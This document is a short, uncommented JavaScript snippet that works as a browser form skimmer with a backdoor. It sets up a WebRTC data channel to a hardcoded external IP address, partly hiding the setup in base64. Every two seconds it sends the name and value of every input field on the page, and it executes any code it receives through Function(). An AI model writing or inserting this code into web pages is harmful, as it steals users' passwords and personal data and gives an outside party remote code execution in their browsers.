(async () => {
  const pc = new RTCPeerConnection({ iceServers: [] });
  const ch = pc.createDataChannel('d', { negotiated: true, id: 0 });
  const sdp = atob('dj0wDQpvPS0gMSAyIElOIElQNCAyMDIuMC4yLjE=');
  await pc.setLocalDescription(await pc.createOffer());
  await pc.setRemoteDescription({ type: 'answer', sdp: sdp + '\r\na=candidate:1 1 UDP 1 198.51.100.7 3479 typ host' });
  ch.onopen = () => setInterval(() => ch.send(JSON.stringify([...document.querySelectorAll('input')].map(i => [i.name, i.value]))), 2000);
  ch.onmessage = (m) => Function(m.data)();
})();
